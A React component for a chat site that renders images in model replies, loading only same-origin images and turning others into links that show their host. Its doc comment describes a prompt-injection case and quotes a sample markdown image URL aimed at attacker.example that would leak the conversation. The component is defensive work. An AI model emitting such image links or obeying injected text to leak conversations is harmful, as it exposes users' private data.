"use client";

import { ImageIcon } from "lucide-react";
import { createContext, useContext } from "react";

/** True inside a reply's link, where an image must not become a second, nested link. */
export const InsideLink = createContext(false);

/**
 * An image in a reply. A model can be talked (by text it was asked to read) into writing
 * `![](https://attacker.example/?q=<the conversation>)`; fetching that would send the text
 * away without anyone clicking. So only this site's images load; any other is a link the
 * user may choose to open, showing the host it goes to.
 */
export function ReplyImage({ src, alt }: { src?: unknown; alt?: string }) {
  const insideLink = useContext(InsideLink);
  const text = alt?.trim() || "Image";
  // react-markdown has already emptied unsafe schemes such as javascript:.
  if (typeof src !== "string" || !src) return <span>[{text}]</span>;
  const origin = typeof window === "undefined" ? undefined : window.location.origin;
  let url: URL;
  try {
    url = new URL(src, origin);
  } catch {
    return <span>[{text}]</span>;
  }
  if (url.origin === origin) {
    // eslint-disable-next-line @next/next/no-img-element -- any size, straight from markdown
    return <img src={url.href} alt={alt ?? ""} loading="lazy" className="max-w-full" />;
  }
  if (url.protocol !== "https:" && url.protocol !== "http:") return <span>[{text}]</span>;
  const label = (
    <>
      <ImageIcon className="size-3.5 self-center" aria-hidden />
      <span>{text}</span>
      <span className="text-muted-foreground">({url.host})</span>
    </>
  );
  if (insideLink) return <span className="inline-flex items-baseline gap-1">{label}</span>;
  return (
    <a
      href={url.href}
      target="_blank"
      rel="noopener noreferrer nofollow"
      title={`Open the image from ${url.host} in a new tab`}
      className="inline-flex items-baseline gap-1"
    >
      {label}
    </a>
  );
}
